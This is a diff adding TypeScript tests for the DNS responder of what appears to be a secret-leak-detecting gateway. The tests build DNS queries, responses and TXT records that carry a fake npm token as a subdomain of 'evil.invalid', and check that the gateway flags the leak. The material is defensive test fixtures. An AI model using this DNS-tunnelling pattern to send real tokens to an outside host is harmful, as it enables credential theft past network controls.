@@ -122,6 +122,40 @@ describe('the DNS responder', () => {
     }
   });
 
+  const SECRET = 'npm_Xk29fQpL7vRt3WsZ8yBnC4dMhJ6gUeA1oTiD';
+  const questions = (...names: string[]) => names.map((name) => ({ type: 'A', name }) as const);
+  const txt = { type: 'TXT', name: 'x', data: SECRET } as const;
+  const more = questions('a.invalid', `${SECRET}.evil.invalid`);
+  it.each<[what: string, message: Buffer, hosts: readonly string[]]>([
+    ['a second question', encode({ type: 'query', id: 7, questions: more }), ['a.invalid', `${SECRET}.evil.invalid`]],
+    [
+      'an answer',
+      encode({ type: 'response', id: 7, questions: questions(`${SECRET}.evil.invalid`) }),
+      [`${SECRET}.evil.invalid`],
+    ],
+    [
+      'a record beside a question',
+      encode({ type: 'query', id: 7, questions: questions('a.invalid'), additionals: [txt] }),
+      ['a.invalid'],
+    ],
+    ['what is no packet', Buffer.from(`\xff\xff${SECRET}`, 'latin1'), ['(unreadable)']],
+  ])('looks through %s', async (_what, message, hosts) => {
+    gateway = await gatewayWith({ secrets: [{ name: 'npm token', value: SECRET }] });
+    await send(gateway.ports.dns, message);
+    expect(gateway.leaks()).toContainEqual(expect.objectContaining({ secret: 'npm token', via: 'dns' }));
+    const asked = gateway.records().map(({ host }) => host);
+    expect(asked.filter((host) => host !== 'last.invalid')).toEqual(hosts);
+  });
+
+  it('a question with the options that resolvers send is a question', async () => {
+    gateway = await gatewayWith({ policy: { mode: 'open' }, names });
+    const opt = { type: 'OPT', name: '.', udpPayloadSize: 1232, flags: 0, options: [] } as never;
+    const message = encode({ type: 'query', id: 7, questions: questions('public.test'), additionals: [opt] });
+    expect((await send(gateway.ports.dns, message))[0]?.answers).toHaveLength(1);
+    expect(gateway.leaks()).toEqual([]);
+    expect(gateway.records()[0]).toMatchObject({ host: 'public.test', allowed: true, count: 1 });
+  });
+
   it('a tunnel of a thousand labels costs a bounded number of records, all counted', async () => {
     gateway = await gatewayWith({ caps: { records: 100 } });
     const secret = Array.from({ length: 1_000 }, (_, i) =>
